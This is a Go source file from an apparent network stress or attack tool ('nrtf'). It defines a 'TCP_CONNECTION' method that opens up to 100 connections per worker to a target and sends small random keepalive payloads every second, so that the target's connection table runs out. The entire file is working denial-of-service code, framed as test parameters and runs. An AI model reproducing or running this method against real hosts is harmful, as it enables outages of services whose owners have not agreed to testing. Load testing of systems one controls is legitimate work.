package tcpmethods

import (
	"context"
	"net"
	"time"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/util"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

const (
	maxHeldConns     = 100
	keepaliveBytes   = 8
	keepalivePeriod  = time.Second
	connDialTimeout  = 3 * time.Second
	connWriteTimeout = 3 * time.Second
)

// TCPConnection exhausts the target's connection table: each unit holds up
// to 100 open connections and trickles a small keepalive on each every
// second, evicting on write failure.
type TCPConnection struct{}

func NewTCPConnection() *TCPConnection { return &TCPConnection{} }

func (m *TCPConnection) Name() string { return "TCP_CONNECTION" }

func (m *TCPConnection) Prepare(params *domain.TestParameters) error {
	_, _, err := domain.NormalizeHostPortTarget(params.Target)
	return err
}

type heldConn struct {
	conn    net.Conn
	release func()
}

func (h *heldConn) close() {
	h.release()
	h.conn.Close()
}

func (m *TCPConnection) RunUnit(ctx context.Context, run *worker.TestRun) {
	dialer := unitDialer(run, connDialTimeout)

	var conns []*heldConn
	defer func() {
		for _, h := range conns {
			h.close()
		}
	}()

	// build the pool first, then keep it alive
	for ctx.Err() == nil && len(conns) < maxHeldConns {
		h, ok := m.open(run, dialer)
		if !ok {
			return
		}
		if h != nil {
			conns = append(conns, h)
		}
		sleepCtx(ctx, 10*time.Millisecond)
	}

	ticker := time.NewTicker(keepalivePeriod)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
		}

		// backfill connections evicted on a previous sweep
		if len(conns) < maxHeldConns {
			if h, ok := m.open(run, dialer); !ok {
				return
			} else if h != nil {
				conns = append(conns, h)
			}
		}

		live := conns[:0]
		for _, h := range conns {
			_ = h.conn.SetWriteDeadline(time.Now().Add(connWriteTimeout))
			n, err := h.conn.Write(util.RandomPayload(keepaliveBytes))
			if err != nil {
				h.close()
				run.Metrics.RecordFail()
				continue
			}
			run.Metrics.RecordBytes(n)
			live = append(live, h)
		}
		conns = live
	}
}

// open dials one held connection. ok=false means shutdown refused the
// registration and the unit must exit.
func (m *TCPConnection) open(run *worker.TestRun, dialer interface {
	Dial(network, addr string) (net.Conn, error)
}) (*heldConn, bool) {
	conn, err := dialer.Dial("tcp", run.Params.Target)
	if err != nil {
		run.Metrics.RecordFail()
		return nil, true
	}
	release, ok := run.Track(conn)
	if !ok {
		conn.Close()
		return nil, false
	}

	_ = conn.SetWriteDeadline(time.Now().Add(connWriteTimeout))
	n, err := conn.Write(util.RandomPayload(tcpFloodPayload))
	run.Metrics.RecordSent()
	if err != nil {
		run.Metrics.RecordFail()
		release()
		conn.Close()
		return nil, true
	}
	run.Metrics.RecordSuccess()
	run.Metrics.RecordBytes(n)
	return &heldConn{conn: conn, release: release}, true
}
